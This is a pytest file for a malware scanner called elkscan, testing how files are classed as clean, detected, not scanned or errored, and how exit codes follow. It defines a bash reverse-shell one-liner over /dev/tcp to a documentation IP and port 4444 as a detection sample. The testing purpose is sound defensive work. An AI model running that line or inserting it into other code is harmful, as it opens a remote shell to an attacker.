"""Every file is accounted for: detected, clean (every engine read all of it), not scanned (with the
reason) or an error. Nothing that was not judged passes as clean, and the exit code says so."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import textwrap
import time

import pytest

from elkscan_core import KNOWN_GOOD, Detection, Engine, Enricher, Source, Target, hookimpl
from elkscan_core.model import NotScanned
from elkscan_core.render import record_fields
from elkscan_core.testing import eicar, run

ELKSCAN = [sys.executable, "-m", "elkscan_core.cli"]
REVERSE_SHELL = b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"


def elkscan(*args, env=None, timeout=120):
    return subprocess.run([*ELKSCAN, *args], capture_output=True, text=True, timeout=timeout,
                          env={**os.environ, **(env or {})})


def yara_only(tmp_path, **yara):
    path = tmp_path / "yara.yaml"
    path.write_text(textwrap.dedent(f"""\
        version: 1
        plugins: [yara_backend, stdout_sink]
        engines: [{{use: yara, with: {yara or {}}}}]
        sinks: [{{use: stdout, with: {{format: jsonl}}}}]
        state_dir: {tmp_path / 'state'}
        """))
    return str(path)


class Clean(Engine):
    id = "clean"

    def scan(self, subject):
        subject.read(subject.size)
        return []


class Small(Clean):
    """An engine that takes files of up to 10 bytes only."""
    id = "small"
    max_file_size = 10


class Vouching(Engine):
    """Vouches for files that start with 'vendor', flags files that start with 'evil'."""
    id = "vouching"
    vouches = True

    def scan(self, subject):
        head = subject.read(6)
        if head.startswith(b"evil"):
            return [Detection.from_signature(self.id, "Test.Evil.File")]
        return KNOWN_GOOD if head.startswith(b"vendor") else []


class Reading(Clean):
    """Remembers what it read."""
    id = "reading"

    def start(self):
        self.read_paths = []

    def scan(self, subject):
        self.read_paths.append(os.path.basename(subject.path))
        return super().scan(subject)


class Limited(Clean):
    """Reads no file over 10 bytes whole, by a limit of its own (as clamd's MaxScanSize)."""
    id = "limited"

    def scan(self, subject):
        if subject.size > 10:
            raise NotScanned("above limited's limit", deterministic=True)
        return super().scan(subject)


class Forgetful(Engine):
    """Forgot its return statement: must not pass for clean."""
    id = "forgetful"

    def scan(self, subject):
        subject.read(16)


class Silent(Enricher):
    id = "silent"
    wants = "all"

    def enrich(self, subject, detections):
        return None


class Unreading(Enricher):
    """Raises what only an engine may raise: an error, not a reason to leave a file unjudged."""
    id = "unreading"
    wants = "all"

    def enrich(self, subject, detections):
        raise NotScanned("an enricher's limit")


class Spoofer(Enricher):
    id = "spoofer"
    wants = "all"

    def enrich(self, subject, detections):
        return {"kind": "spoofed", "path": "/spoofed", "types": "spoofed", "status": "clean", "mine": 1}


class Skips(Source):
    """Yields what a walk decided not to judge."""
    id = "skips"

    def targets(self):
        yield Target("/policy/big.iso", skip="above max_size")
        yield Target("/named/fifo", skip="not a regular file", required=True)


class Components:
    @hookimpl
    def elkscan_register_engines(self, registry):
        for cls in (Clean, Small, Forgetful, Vouching, Reading, Limited):
            registry.add(cls)

    @hookimpl
    def elkscan_register_enrichers(self, registry):
        registry.add(Silent)
        registry.add(Unreading)
        registry.add(Spoofer)

    @hookimpl
    def elkscan_register_sources(self, registry):
        registry.add(Skips)


def walk(path, engines, enrichers=(), **kwargs):
    pipeline = {"sources": [{"use": "dirscan", "with": {"roots": {str(path): -1}, "type_filter": False,
                                                         "min_size": 0}}],
                "engines": engines, "enrichers": list(enrichers)}
    return run(pipeline, extra_plugins=[Components()], **kwargs)


def test_a_file_above_an_engines_limit_is_not_scanned_never_clean(tmp_path):
    (tmp_path / "tiny").write_bytes(b"12345")
    (tmp_path / "large").write_bytes(b"x" * 64)
    result = walk(tmp_path, ["clean", "small"], report_clean=True)
    status = {os.path.basename(r.target.path): (r.status, r.skipped, r.judged_by) for r in result.records}
    assert status["tiny"] == ("clean", "", ("clean", "small"))
    assert status["large"] == ("not_scanned", "above small's max_file_size", ("clean",))
    assert result.summary.clean == 1 and result.summary.not_scanned == {"above small's max_file_size": 1}


def test_a_file_an_engine_leaves_unread_by_a_limit_of_its_own_is_not_scanned(tmp_path):
    (tmp_path / "tiny").write_bytes(b"12345")
    (tmp_path / "large").write_bytes(b"x" * 64)
    result = walk(tmp_path, ["clean", "limited"])
    assert result.records == [] and result.summary.errors == 0 and result.summary.unjudged == 0
    assert result.summary.not_scanned == {"above limited's limit": 1} and result.summary.clean == 1
    named = run({"sources": [{"use": "dirscan", "with": {"roots": {str(tmp_path): -1}, "type_filter": False,
                                                          "min_size": 0, "required": True}}],
                 "engines": ["clean", "limited"]}, extra_plugins=[Components()])
    [large] = named.records  # a file the user named, not judged: reported, and the exit code is 2
    assert (large.status, large.skipped, large.judged_by) == ("not_scanned", "above limited's limit", ("clean",))
    assert named.summary.unjudged == 1
    enriched = walk(tmp_path, ["clean"], ["unreading"], report_clean=True)
    assert {r.status for r in enriched.records} == {"error"} and "NotScanned" in enriched.records[0].error


def test_a_file_an_engine_vouches_for_is_clean_and_known_good_and_not_read_again(tmp_path):
    (tmp_path / "vendor.bin").write_bytes(b"vendor!")
    (tmp_path / "own.txt").write_bytes(b"ours")
    (tmp_path / "large-vendor.bin").write_bytes(b"vendor" + b"x" * 64)
    result = walk(tmp_path, ["small", "vouching", "reading"], report_clean=True)
    records = {os.path.basename(r.target.path): r for r in result.records}
    vendor, own, large = records["vendor.bin"], records["own.txt"], records["large-vendor.bin"]
    assert (vendor.status, vendor.known_good, vendor.judged_by) == ("clean", "vouching", ("small", "vouching"))
    assert (own.status, own.known_good, own.judged_by) == ("clean", "", ("small", "vouching", "reading"))
    # above an earlier engine's limit, but vouched for: clean, never "not scanned" for that engine
    assert (large.status, large.skipped, large.judged_by) == ("clean", "", ("vouching",))
    assert result.session.find("engine", "reading").read_paths == ["own.txt"]
    assert (result.summary.clean, result.summary.known_good) == (3, 2)
    fields = record_fields(vendor)
    assert (fields["status"], fields["known_good"], fields["judged_by"]) == ("clean", "vouching",
                                                                         ["small", "vouching"])
    assert "known_good" not in record_fields(own)


def test_an_engine_before_the_one_that_vouches_still_detects(tmp_path):
    (tmp_path / "vendor.bin").write_bytes(b"vendor file")
    (tmp_path / "evil.bin").write_bytes(b"evil file")
    result = walk(tmp_path, ["vouching", "reading"])
    assert result.detected == {str(tmp_path / "evil.bin"): ["Test.Evil.File"]}
    assert result.session.find("engine", "reading").read_paths == ["evil.bin"]


def test_none_from_an_engine_or_an_enricher_is_an_error(tmp_path):
    (tmp_path / "file").write_bytes(b"content")
    result = walk(tmp_path, ["forgetful"], ["silent"], report_clean=True)
    [record] = result.records
    assert record.status == "error" and result.summary.clean == 0
    assert {(o.component, o.status) for o in record.errors} == {("forgetful", "garbage"), ("silent", "garbage")}
    assert "returned None" in record.error


def test_an_enricher_cannot_overwrite_the_records_own_fields(tmp_path):
    (tmp_path / "file").write_bytes(b"content")
    result = walk(tmp_path, ["clean"], ["spoofer"], report_clean=True)
    [record] = result.records
    assert record.kind == "finding" and record.target.path == str(tmp_path / "file")
    assert "kind" not in record.facts and "path" not in record.facts
    assert record.errors[0].component == "spoofer" and "kind, path, status, types" in record.error


def test_skips_from_a_source_are_counted_and_a_named_one_is_reported(tmp_path):
    result = run({"sources": ["skips"], "engines": ["clean"]}, extra_plugins=[Components()])
    assert result.summary.not_scanned == {"above max_size": 1, "not a regular file": 1}
    assert result.summary.unjudged == 1 and result.summary.files == 0
    [named] = result.records  # the policy skip is only counted (and shown with --all)
    assert (named.target.path, named.status, named.skipped) == ("/named/fifo", "not_scanned",
                                                                "not a regular file")
    shown = run({"sources": ["skips"], "engines": ["clean"]}, extra_plugins=[Components()], report_clean=True)
    assert len(shown.records) == 2


def test_targets_with_no_engine_are_errors(tmp_path):
    (tmp_path / "file").write_bytes(b"content")
    result = walk(tmp_path, [])
    [record] = result.records
    assert record.status == "error" and "no engine" in record.error and result.summary.errors == 1


def test_named_file_above_the_engines_own_limits_is_read_whole(tmp_path):
    big = tmp_path / "rev_30MiB.sh"
    with open(big, "wb") as f:
        f.write(REVERSE_SHELL)
        f.write(b"#" * (30 * 1024 * 1024))
    out = elkscan("scan", "-p", yara_only(tmp_path), str(big))
    assert out.returncode == 1, out.stderr
    assert "Linux_ReverseShell_DevTcp" in out.stdout


def test_max_file_size_zero_does_not_make_a_named_file_clean(tmp_path):
    sample = tmp_path / "eicar.com"
    sample.write_bytes(eicar())
    out = elkscan("scan", "-p", yara_only(tmp_path, max_file_size=0), str(sample))
    assert out.returncode == 1, out.stderr


def test_named_file_over_max_size_is_not_scanned_and_exit_2(tmp_path):
    big = tmp_path / "big.sh"
    big.write_bytes(REVERSE_SHELL + b"#" * 2048)
    out = elkscan("scan", "-a", "--max-size", "1KiB", "-p", yara_only(tmp_path), str(big))
    assert out.returncode == 2, out.stderr
    [record] = [json.loads(line) for line in out.stdout.splitlines()]
    assert (record["status"], record["reason"]) == ("not_scanned", "above max_size")
    assert "1 not scanned (1 above max_size)" in out.stderr


def test_a_pipeline_whose_only_engine_failed_is_an_error(tmp_path):
    (tmp_path / "file").write_bytes(b"content")
    pipeline = tmp_path / "p.yaml"
    pipeline.write_text(textwrap.dedent(f"""\
        version: 1
        plugins: [clamav_backend, stdout_sink]
        engines: [{{use: clamav, optional: true, with: {{socket: {tmp_path / 'nonexistent.sock'}}}}}]
        sinks: [stdout]
        """))
    out = elkscan("scan", "-p", str(pipeline), str(tmp_path))
    assert out.returncode == 2 and "every engine failed to start" in out.stderr, out.stderr


@pytest.mark.parametrize("workers", ["-1", "0", "100000"])
def test_worker_counts_are_checked(tmp_path, workers):
    out = elkscan("scan", "-w", workers, str(tmp_path))
    assert out.returncode == 2 and "from 1 to 256" in out.stderr


FAULTY = """
    import time
    from elkscan_core import Engine, Sink, hookimpl

    class Boom(Engine):
        id = "boom"
        def start(self):
            raise RuntimeError("kaboom")
        def scan(self, subject):
            return []

    class Stuck(Sink):
        id = "stuck"
        def write(self, record):
            time.sleep(3600)

    @hookimpl
    def elkscan_register_engines(registry):
        registry.add(Boom)

    @hookimpl
    def elkscan_register_sinks(registry):
        registry.add(Stuck)
"""


@pytest.fixture
def faulty(install_plugin, tmp_path):
    site = install_plugin("faulty", FAULTY)
    return {"PYTHONPATH": os.pathsep.join([str(site), *sys.path])}


def test_a_start_that_raises_is_one_line_and_exit_2(tmp_path, faulty):
    (tmp_path / "f").write_text("x" * 10)
    pipeline = tmp_path / "p.yaml"
    pipeline.write_text("version: 1\nplugins: [faulty, yara_backend]\nengines: [yara, boom]\n")
    out = elkscan("scan", "-p", str(pipeline), str(tmp_path / "f"), env=faulty)
    assert out.returncode == 2 and "Traceback" not in out.stderr
    assert "RuntimeError: kaboom" in out.stderr and out.stderr.strip().count("\n") == 0
    pipeline.write_text("version: 1\nplugins: [faulty, yara_backend]\n"
                        "engines: [yara, {use: boom, optional: true}]\n")
    out = elkscan("scan", "-p", str(pipeline), str(tmp_path / "f"), env=faulty)
    assert out.returncode == 0 and "kaboom" in out.stderr


def test_a_hung_sink_does_not_block_a_sigterm(tmp_path, faulty):
    for i in range(50):
        (tmp_path / f"f{i}.txt").write_text("harmless\n")
    pipeline = tmp_path / "p.yaml"
    pipeline.write_text(f"version: 1\nplugins: [faulty, yara_backend]\nengines: [yara]\nsinks: [stuck]\n"
                        f"sources: [{{use: dirscan, with: {{roots: {{{tmp_path}: 1}}, every: 1s}}}}]\n")
    proc = subprocess.Popen([*ELKSCAN, "run", str(pipeline)], env={**os.environ, **faulty},
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    time.sleep(3)
    began = time.monotonic()
    proc.send_signal(signal.SIGTERM)
    proc.communicate(timeout=30)
    assert time.monotonic() - began < 10


def test_run_stopped_by_sigterm_exits_zero(tmp_path):
    (tmp_path / "f.txt").write_text("harmless\n")
    pipeline = tmp_path / "p.yaml"
    pipeline.write_text(f"version: 1\nplugins: [yara_backend]\nengines: [yara]\n"
                        f"sources: [{{use: dirscan, with: {{roots: {{{tmp_path}: 1}}, every: 1s}}}}]\n")
    proc = subprocess.Popen([*ELKSCAN, "run", "-v", str(pipeline)], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    seen, deadline = [], time.monotonic() + 60  # its first pass over (before its handler a signal ends it)
    while not any("a pass over" in line for line in seen) and proc.poll() is None and time.monotonic() < deadline:
        seen.append(proc.stderr.readline())
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=30)
    assert proc.returncode == 0, "".join(seen) + err


def test_an_optional_engine_whose_plugin_is_not_installed_is_left_out(tmp_path):
    sample = tmp_path / "eicar.com"
    sample.write_bytes(eicar())
    pipeline = tmp_path / "p.yaml"
    pipeline.write_text("version: 1\nplugins: [not_installed_backend, yara_backend]\n"
                        "engines: [{use: notinstalled, optional: true}, yara]\n")
    out = elkscan("scan", "-p", str(pipeline), str(sample))
    assert out.returncode == 1 and "'notinstalled' is not available" in out.stderr, out.stderr
    assert elkscan("validate", str(pipeline)).returncode == 0
    pipeline.write_text("version: 1\nplugins: [not_installed_backend, yara_backend]\n"
                        "engines: [notinstalled, yara]\n")
    out = elkscan("scan", "-p", str(pipeline), str(sample))
    assert out.returncode == 2 and "unknown engine 'notinstalled'" in out.stderr


def test_a_scan_with_nothing_to_scan_is_an_error(tmp_path):
    pipeline = tmp_path / "p.yaml"
    pipeline.write_text("version: 1\nplugins: [yara_backend]\nengines: [yara]\n")
    out = elkscan("scan", "-p", str(pipeline))
    assert out.returncode == 2 and "nothing to scan" in out.stderr


def test_a_misspelt_component_gets_a_suggestion(tmp_path):
    pipeline = tmp_path / "p.yaml"
    pipeline.write_text("version: 1\nplugins: [yara_backend]\nengines: [yaraa]\n")
    out = elkscan("validate", str(pipeline))
    assert out.returncode == 2 and "did you mean 'yara'?" in out.stderr


class Twin(Enricher):
    """Sets a fact that Spoofer's neighbour already set, and one no sink could render."""
    id = "twin"
    wants = "all"

    def enrich(self, subject, detections):
        return {"mine": 2}


class Odd(Enricher):
    id = "odd"
    wants = "all"

    def enrich(self, subject, detections):
        return {"thing": object()}


class More:
    @hookimpl
    def elkscan_register_enrichers(self, registry):
        registry.add(Twin)
        registry.add(Odd)


def test_two_enrichers_setting_one_fact_and_odd_values_are_errors(tmp_path):
    (tmp_path / "file").write_bytes(b"content")
    pipeline = {"sources": [{"use": "dirscan", "with": {"roots": {str(tmp_path): -1}, "min_size": 0}}],
                "engines": ["clean"], "enrichers": ["twin", "twin", "odd"]}
    [record] = run(pipeline, extra_plugins=[Components(), More()], report_clean=True).records
    assert record.facts == {"mine": 2} and record.status == "error"
    assert "that an earlier enricher set" in record.error and "returned a object for 'thing'" in record.error


def test_a_four_byte_named_file_is_judged_and_demo_says_what_it_scans(tmp_path):
    tiny = tmp_path / "tiny"
    tiny.write_bytes(b"1234")
    out = elkscan("scan", "-a", "-f", "jsonl", "-p", yara_only(tmp_path), str(tiny))
    assert out.returncode == 0 and json.loads(out.stdout)["judged_by"] == ["yara"]
    out = elkscan("demo", str(tmp_path / "demo"), "-p", yara_only(tmp_path), "-f", "jsonl")
    assert out.returncode == 1 and "scanning them\n" in out.stderr  # the pipeline has no sources of its own


def test_a_shipped_pipeline_can_be_copied_with_validate_print(tmp_path):
    out = elkscan("validate", "--print", "default")
    assert out.returncode == 0 and out.stdout.startswith("#") and "valid" in out.stderr
    copy = tmp_path / "mine.yaml"
    copy.write_text(out.stdout)
    assert elkscan("validate", str(copy)).returncode == 0
